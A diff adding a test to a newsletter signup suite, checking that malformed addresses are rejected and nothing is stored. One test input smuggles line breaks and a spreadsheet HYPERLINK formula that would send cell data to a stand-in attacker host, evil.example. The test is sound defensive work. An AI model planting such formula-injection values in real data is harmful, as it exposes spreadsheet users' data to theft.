@@ -24,6 +24,17 @@ describe('the newsletter', () => {
     expect(rows).toMatchObject([{ email: 'reader@example.com', isActive: true }]);
   });
 
+  it('refuses several lines with a spreadsheet formula in one address (review 22 M3), and stores nothing', async () => {
+    const planted = 'kid@example.com\r\n=HYPERLINK("http://evil.example/?"&A1,"Click")@x\r\nplanted@evil.example';
+    for (const email of [planted, 'a\u0007b@example.com', 'a\u202eb@example.com', 'x@y']) {
+      const response = await subscribe(email, '203.0.113.9');
+      expect(response.statusCode).toBe(400);
+      expect(response.json()).toEqual({ message: NEWSLETTER_MESSAGES.invalidEmail });
+    }
+    const rows = await app.database.db.select().from(newsletterSubscriptions);
+    expect(rows.filter((r) => r.email !== 'reader@example.com')).toEqual([]);
+  });
+
   it('refuses an address without an at-sign, and stores nothing', async () => {
     for (const email of ['', 'nobody', 42]) {
       const response = await subscribe(email, '203.0.113.2');
